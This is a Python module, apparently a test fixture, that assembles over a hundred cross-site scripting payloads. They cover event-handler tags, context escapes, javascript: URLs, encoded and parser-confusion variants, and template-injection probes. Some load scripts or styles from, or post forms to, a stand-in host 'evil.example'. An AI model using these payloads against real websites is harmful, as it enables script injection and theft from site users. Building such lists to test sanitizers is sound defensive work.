"""Words that try to become a page's own code. Each would open a dialog, load something or break out of its place."""

_DO = "alert(1)"
_EVENTS = ["onerror", "onload", "onfocus", "onmouseover", "onanimationstart", "ontoggle"]
_TAGS = ["img", "svg", "body", "video", "audio", "details", "input", "iframe", "select"]

_EVENT_TAGS = [f"<{tag} src=x {event}={_DO} autofocus open>" for tag in _TAGS for event in _EVENTS]
_BREAKS = ["'", '"', "`", "\\'", "</textarea>", "</title>", "</script>", "</style>", "-->", "]]>", "*/", "\u2028"]
_ESCAPES = [f"{out}<script>{_DO}</script>" for out in _BREAKS]
_ATTRIBUTES = [f"{quote} {event}={_DO} x={quote}" for quote in "'\"" for event in _EVENTS[:4]]
_ADDRESSES = [
    "javascript:alert(1)",
    "JaVaScRiPt:alert(1)",
    "java\tscript:alert(1)",
    "<a href=javascript:alert(1)>a</a>",
    "<a href=&#106;avascript:alert(1)>a</a>",
    "data:text/html,<script>alert(1)</script>",
    "<iframe src=javascript:alert(1)>",
    "<iframe srcdoc='<script>alert(1)</script>'>",
    "<object data=javascript:alert(1)>",
    "<embed src=//evil.example/x>",
    "<base href=//evil.example/>",
    "<link rel=stylesheet href=//evil.example/x.css>",
    "<meta http-equiv=refresh content=0;url=//evil.example>",
    "<form action=//evil.example><button>a</button></form>",
    "<img src=//evil.example/x.png>",
    "<script src=//evil.example/x.js></script>",
]
_SHAPES = [
    "<script>alert(1)</script>",
    "<SCRIPT>alert(1)</SCRIPT>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<script/x>alert(1)</script>",
    "<script\n>alert(1)</script>",
    "<<script>alert(1);//<</script>",
    "<svg><script>alert(1)</script></svg>",
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
    "<svg><use href=data:image/svg+xml,%3Csvg%3E>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    "<template><script>alert(1)</script></template>",
    "<style>@import'//evil.example/x.css';</style>",
    "<style>*{background:url(//evil.example)}</style>",
    "<p style=animation-name:x onanimationstart=alert(1)>",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&#60;script&#62;alert(1)&#60;/script&#62;",
    "\\u003cscript\\u003ealert(1)\\u003c/script\\u003e",
    "%3Cscript%3Ealert(1)%3C/script%3E",
    "＜script＞alert(1)＜/script＞",
    "{{ 7|add:7 }}{% debug %}",
    "${alert(1)}#{alert(1)}",
    "{{constructor.constructor('alert(1)')()}}",
    "<!--><script>alert(1)</script>",
    "<![CDATA[<script>alert(1)</script>]]>",
    "<?xml version='1.0'?><script>alert(1)</script>",
    "<plaintext>",
    "<xmp><script>alert(1)</script></xmp>",
    "<dialog open onclose=alert(1)>",
    "<div popover id=x onbeforetoggle=alert(1)>",
    "<input type=image src=x onerror=alert(1)>",
    "<button formaction=javascript:alert(1)>a</button>",
]

PAYLOADS = [*_EVENT_TAGS, *_ESCAPES, *_ATTRIBUTES, *_ADDRESSES, *_SHAPES]
"""More than a hundred, all different."""
